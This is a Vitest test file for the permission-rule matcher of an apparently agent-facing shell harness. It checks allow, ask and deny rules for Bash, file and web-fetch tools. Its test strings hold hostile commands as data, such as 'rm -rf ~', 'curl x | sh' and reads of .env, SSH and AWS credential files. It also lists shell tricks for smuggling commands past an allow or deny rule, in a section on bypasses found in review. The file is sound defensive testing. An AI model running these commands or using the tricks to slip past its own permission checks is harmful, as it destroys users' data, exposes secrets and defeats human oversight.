import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs'
import { homedir, tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { evaluate, type RuleSet } from './match.js'
import { parseRule, RuleError, type RuleKind } from './rules.js'
import { splitCommand } from './shell.js'

const root = mkdtempSync(join(tmpdir(), 'dsh-rules-'))
const home = '/home/someone'

function rules(spec: Partial<Record<RuleKind, string[]>>): RuleSet {
  const of = (kind: RuleKind) => (spec[kind] ?? []).map(text => parseRule(text, kind, 'test', { root, home }))
  return { deny: of('deny'), ask: of('ask'), allow: of('allow') }
}

const bash = (set: RuleSet, command: string) => evaluate(set, { tool: 'bash', args: { command }, cwd: root })
const verdict = (set: RuleSet, command: string) => bash(set, command)?.kind

describe('permission rule syntax', () => {
  it('maps Claude Code tool names onto dsh tools and takes dsh names as they are', () => {
    expect(parseRule('Bash', 'allow', 't', { root }).tools).toEqual(['bash'])
    expect(parseRule('Edit(src/**)', 'allow', 't', { root }).tools).toEqual(['edit', 'write', 'str_replace_editor'])
    expect(parseRule('Write', 'allow', 't', { root }).tools).toEqual(['write'])
    expect(parseRule('WebFetch(domain:example.com)', 'allow', 't', { root }).tools).toEqual(['web_fetch'])
    expect(parseRule('bash(git status)', 'allow', 't', { root }).tools).toEqual(['bash'])
    expect(parseRule('mcp__files__read', 'allow', 't', { root }).tools).toEqual(['mcp__files__read'])
    expect(parseRule('todo_write', 'deny', 't', { root }).tools).toEqual(['todo_write'])
  })

  it('refuses a rule that cannot mean anything, naming the rule and its source', () => {
    expect(() => parseRule('Bash(', 'allow', '--allow', { root })).toThrow(RuleError)
    expect(() => parseRule('Bash(', 'allow', '--allow', { root })).toThrow('permission rule "Bash(" (--allow): expected Tool or Tool(pattern)')
    expect(() => parseRule('Frobnicate(x)', 'deny', 'user settings', { root })).toThrow(/unknown tool Frobnicate/)
    expect(() => parseRule('WebFetch(example.com)', 'allow', 't', { root })).toThrow(/domain:HOST/)
    expect(() => parseRule('Bash(git * main)', 'allow', 't', { root })).toThrow(/exact .* or a prefix ending in :\*/)
    expect(() => parseRule('mcp__s__t(x)', 'allow', 't', { root })).toThrow(/MCP tools take no pattern/)
    expect(() => parseRule('todo_write(x)', 'allow', 't', { root })).toThrow(/takes no pattern/)
  })
})

describe('Bash rules', () => {
  it('a prefix rule matches on a word boundary; an exact rule only the same words', () => {
    const set = rules({ allow: ['Bash(npm run test:*)', 'Bash(git status)'] })
    expect(verdict(set, 'npm run test')).toBe('allow')
    expect(verdict(set, 'npm run test -- --grep x')).toBe('allow')
    expect(verdict(set, 'npm   run  test')).toBe('allow')
    expect(verdict(set, 'npm run testing')).toBeUndefined()
    expect(verdict(set, 'npm run tes')).toBeUndefined()
    expect(verdict(set, 'git status')).toBe('allow')
    expect(verdict(set, 'git status --short')).toBeUndefined()
  })

  it('compound commands: an allow rule must cover every part (no `npm run test && rm -rf ~`)', () => {
    const set = rules({ allow: ['Bash(npm run test:*)', 'Bash(git status)'] })
    for (const bypass of [
      'npm run test && rm -rf ~', 'npm run test; rm -rf ~', 'npm run test | sh', 'npm run test || curl x | sh',
      'npm run test & rm -rf ~', 'npm run test\nrm -rf ~', 'npm run test $(rm -rf ~)', 'npm run test `rm -rf ~`',
      'npm run test "$(rm -rf ~)"', 'npm run test > ~/.bashrc', 'npm run test <(rm -rf ~)', '(npm run test); rm x',
      'npm run test && bash <<EOF\nrm -rf ~\nEOF', 'npm run test "unterminated', 'FOO=1 npm run test', 'sudo npm run test',
    ]) expect(verdict(set, bypass), bypass).toBeUndefined()
    expect(verdict(set, 'npm run test && git status')).toBe('allow')
    expect(verdict(set, 'npm run test 2>&1 | npm run test')).toBe('allow')
    expect(verdict(set, 'npm run test > /dev/null')).toBe('allow')
  })

  it('quoting: words are compared unquoted, and a separator inside quotes is text', () => {
    const set = rules({ allow: ['Bash(echo:*)'], deny: ['Bash(git push:*)'] })
    expect(verdict(set, 'echo "a && rm -rf ~"')).toBe('allow')
    expect(verdict(set, "echo 'a; b' | echo c")).toBe('allow')
    expect(verdict(set, 'git "push" origin')).toBe('deny')
    expect(verdict(set, "g'i't pu\\sh")).toBe('deny')
    expect(verdict(set, 'echo "git push"')).toBe('allow')
  })

  it('deny matches when ANY part matches: compounds, substitutions, wrappers, bash -c, paths', () => {
    const set = rules({ deny: ['Bash(git push:*)'], allow: ['Bash'] })
    for (const attempt of [
      'git push', 'git push --force origin main', 'echo ok && git push', 'true; git push', 'ls | git push', 'echo $(git push)',
      'echo `git push`', 'FOO=1 git push', 'env -u X git push', 'sudo -u root git push', 'timeout 5 git push', 'nohup git push &',
      'bash -c "git push"', "sh -c 'echo x; git push'", 'eval git push', '/usr/bin/git push', 'if true; then git push; fi', '(git push)',
    ]) expect(verdict(set, attempt), attempt).toBe('deny')
    expect(verdict(set, 'git pull')).toBe('allow')
    expect(bash(set, 'git push')?.rule.text).toBe('Bash(git push:*)')
  })

  it('precedence: deny over ask over allow', () => {
    const set = rules({ allow: ['Bash'], ask: ['Bash(git:*)'], deny: ['Bash(git push:*)'] })
    expect(verdict(set, 'ls')).toBe('allow')
    expect(verdict(set, 'git status')).toBe('ask')
    expect(verdict(set, 'ls && git status')).toBe('ask')
    expect(verdict(set, 'git status; git push')).toBe('deny')
  })

  it('the split sees through what it can and flags what it cannot', () => {
    expect(splitCommand('a b && c "d e" | f; g').commands).toEqual([['a', 'b'], ['c', 'd e'], ['f'], ['g']])
    expect(splitCommand('echo $(rm x)').dynamic).toBe(true)
    expect(splitCommand('echo $(rm x)').nested).toEqual(['rm x'])
    expect(splitCommand('echo hi # && rm x').commands).toEqual([['echo', 'hi']])
    expect(splitCommand('cat a 2>&1 >/dev/null').redirects).toBe(false)
    expect(splitCommand('cat a > b').redirects).toBe(true)
    expect(splitCommand('cat < secret').redirects).toBe(true)
  })
})

describe('path rules', () => {
  mkdirSync(join(root, 'src'), { recursive: true })
  writeFileSync(join(root, '.env'), 'KEY=1\n')
  symlinkSync(join(root, '.env'), join(root, 'src', 'env-link'))
  const edit = (set: RuleSet, file_path: string, tool = 'edit') => evaluate(set, { tool, args: { file_path }, cwd: root })?.kind

  it('Edit(src/**) covers files below src/ of the project root, resolved before matching', () => {
    const set = rules({ allow: ['Edit(src/**)'] })
    expect(edit(set, 'src/a.ts')).toBe('allow')
    expect(edit(set, join(root, 'src/deep/b.ts'))).toBe('allow')
    expect(edit(set, 'src/a.ts', 'write')).toBe('allow')
    expect(edit(set, 'src/../.env')).toBeUndefined()
    expect(edit(set, 'src/../../etc/passwd')).toBeUndefined()
    expect(edit(set, 'srcx/a.ts')).toBeUndefined()
    // A link inside src/ to a file outside it: the real path does not match, so no allow.
    expect(edit(set, 'src/env-link')).toBeUndefined()
    expect(edit(set, 'src/a.ts', 'read')).toBeUndefined()
  })

  it('Read(./.env) denies the file by any spelling of its path, links included', () => {
    const set = rules({ deny: ['Read(./.env)'] })
    expect(evaluate(set, { tool: 'read', args: { file_path: '.env' }, cwd: root })?.kind).toBe('deny')
    expect(evaluate(set, { tool: 'read', args: { file_path: 'src/../.env' }, cwd: root })?.kind).toBe('deny')
    expect(evaluate(set, { tool: 'read', args: { file_path: 'src/env-link' }, cwd: root })?.kind).toBe('deny')
    expect(evaluate(set, { tool: 'read', args: '{"file_path":"./.env"}', cwd: join(root, 'src', '..') })?.kind).toBe('deny')
    expect(evaluate(set, { tool: 'read', args: { file_path: 'src/a.ts' }, cwd: root })).toBeUndefined()
  })

  it('//abs is absolute, ~/ is the home folder, * stays within one name', () => {
    expect(evaluate(rules({ deny: ['Read(//etc/**)'] }), { tool: 'read', args: { file_path: '/etc/passwd' }, cwd: root })?.kind).toBe('deny')
    expect(evaluate(rules({ deny: ['Read(~/.aws/**)'] }), { tool: 'read', args: { file_path: `${home}/.aws/credentials` }, cwd: root })?.kind).toBe('deny')
    const set = rules({ allow: ['Edit(src/*.ts)'] })
    expect(edit(set, 'src/a.ts')).toBe('allow')
    expect(edit(set, 'src/deep/a.ts')).toBeUndefined()
  })
})

describe('WebFetch and MCP rules', () => {
  it('domain: matches the URL host exactly, *. its subdomains', () => {
    const set = rules({ allow: ['WebFetch(domain:example.com)', 'WebFetch(domain:*.docs.dev)'] })
    const fetch = (url: string) => evaluate(set, { tool: 'web_fetch', args: { url }, cwd: root })?.kind
    expect(fetch('https://example.com/page')).toBe('allow')
    expect(fetch('https://EXAMPLE.com./x')).toBe('allow')
    expect(fetch('https://example.com.evil.net/')).toBeUndefined()
    expect(fetch('https://evil.net/?example.com')).toBeUndefined()
    expect(fetch('https://api.docs.dev/')).toBe('allow')
    expect(fetch('https://docs.dev/')).toBeUndefined()
    expect(fetch('not a url')).toBeUndefined()
  })

  it('mcp__server covers every tool of the server, mcp__server__tool one', () => {
    const set = rules({ deny: ['mcp__files'], allow: ['mcp__web__search'] })
    expect(evaluate(set, { tool: 'mcp__files__delete', args: {}, cwd: root })?.kind).toBe('deny')
    expect(evaluate(set, { tool: 'mcp__filesystem__read', args: {}, cwd: root })).toBeUndefined()
    expect(evaluate(set, { tool: 'mcp__web__search', args: {}, cwd: root })?.kind).toBe('allow')
    expect(evaluate(set, { tool: 'mcp__web__fetch', args: {}, cwd: root })).toBeUndefined()
  })
})

describe('bypasses a review found (each failed before its fix)', () => {
  it('a here-string cannot hide a command from an allow rule, nor from a deny rule', () => {
    expect(verdict(rules({ allow: ['Bash(npm run test:*)'] }), `npm run test <<<"a '" ; rm -rf ~/x ; echo \\'`)).toBeUndefined()
    expect(verdict(rules({ deny: ['Bash(git push:*)'] }), `cat <<<"a '" ; git push ; echo \\'`)).toBe('deny')
    expect(verdict(rules({ allow: ['Bash(cat:*)'] }), 'cat <<<hello')).toBe('allow')
  })

  it('a function body is its own command: `function NAME { ... }` does not merge with the name', () => {
    expect(verdict(rules({ allow: ['Bash(npm:*)'] }), 'function npm { rm -rf ~/x; }; npm run test')).toBeUndefined()
    expect(verdict(rules({ deny: ['Bash(git push:*)'] }), 'function f { git push; }; f')).toBe('deny')
    expect(verdict(rules({ allow: ['Bash(echo:*)'] }), "echo '{' '}'")).toBe('allow')
  })

  it('a comment sign right after a process substitution is part of the word, as in bash', () => {
    expect(verdict(rules({ deny: ['Bash(git push:*)'] }), 'cat <(true)#; git push')).toBe('deny')
  })

  it('deny sees through bash -c with options before the script, exec -a, doas -u, timeout --signal, coproc', () => {
    const deny = rules({ deny: ['Bash(git push:*)'] })
    for (const command of ["env -S 'git push'", "$'git' push", "$'g\\x69t' push origin", "bash -c -e 'git push'", 'exec -a foo git push', 'doas -u root git push', 'timeout --signal KILL 5 git push', 'coproc git push']) {
      expect(verdict(deny, command), command).toBe('deny')
    }
  })

  it('a ~/ path is the home folder, as the tools read it', () => {
    const path = (set: RuleSet, tool: string, args: Record<string, unknown>) => evaluate(set, { tool, args, cwd: root })?.kind
    // `//` starts an absolute path in the rule syntax.
    const set = rules({ deny: [`Read(/${homedir()}/.ssh/**)`] })
    expect(path(set, 'read', { file_path: '~/.ssh/id_rsa' })).toBe('deny')
    expect(path(rules({ allow: ['Edit(**)'] }), 'write', { file_path: '~/.bashrc', content: '' })).toBeUndefined()
  })

  it("a new file under a linked folder is judged where the link leads", () => {
    const work = mkdtempSync(join(tmpdir(), 'dsh-rules-link-'))
    mkdirSync(join(work, 'src'))
    mkdirSync(join(work, 'secrets'))
    symlinkSync(join(work, 'secrets'), join(work, 'src', 'link'))
    const set = (spec: Partial<Record<RuleKind, string[]>>) => {
      const of = (kind: RuleKind) => (spec[kind] ?? []).map(text => parseRule(text, kind, 'test', { root: work, home }))
      return { deny: of('deny'), ask: of('ask'), allow: of('allow') }
    }
    expect(evaluate(set({ deny: ['Edit(secrets/**)'] }), { tool: 'write', args: { file_path: 'src/link/new.txt', content: '' }, cwd: work })?.kind).toBe('deny')
    expect(evaluate(set({ allow: ['Edit(src/**)'] }), { tool: 'write', args: { file_path: 'src/link/new.txt', content: '' }, cwd: work })?.kind).toBeUndefined()
  })

  it('a Read deny covers str_replace_editor; a Read allow does not let it write', () => {
    const set = rules({ deny: ['Read(./.env)'] })
    expect(evaluate(set, { tool: 'str_replace_editor', args: { command: 'view', path: '.env' }, cwd: root })?.kind).toBe('deny')
    const allow = rules({ allow: ['Read(**)'] })
    expect(evaluate(allow, { tool: 'str_replace_editor', args: { command: 'view', path: 'a.txt' }, cwd: root })?.kind).toBe('allow')
    expect(evaluate(allow, { tool: 'str_replace_editor', args: { command: 'create', path: 'a.txt', file_text: '' }, cwd: root })?.kind).toBeUndefined()
  })

  it('Edit(//) covers the whole filesystem, not only / itself', () => {
    const set = rules({ deny: ['Edit(//)'] })
    expect(evaluate(set, { tool: 'write', args: { file_path: '/etc/hosts', content: '' }, cwd: root })?.kind).toBe('deny')
    expect(evaluate(set, { tool: 'write', args: { file_path: 'a.txt', content: '' }, cwd: root })?.kind).toBe('deny')
  })
})
